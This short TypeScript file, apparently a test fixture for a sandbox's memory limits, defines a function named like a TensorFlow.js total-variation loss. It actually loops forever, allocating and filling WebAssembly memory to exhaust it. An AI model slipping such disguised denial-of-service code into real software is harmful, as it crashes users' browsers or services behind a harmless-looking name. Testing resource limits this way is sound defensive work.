import type * as tf from '@tensorflow/tfjs';

// Tries to fill the memory of WebAssembly modules.
export function tvLoss(_img: tf.Tensor4D): never {
  const { Memory } = Reflect.get(globalThis, 'WebAssembly');
  const kept: unknown[] = [];
  for (;;) {
    const memory = new Memory({ initial: 1 });
    memory.grow(2000);
    new Uint8Array(memory.buffer).fill(1);
    kept.push(memory);
  }
}
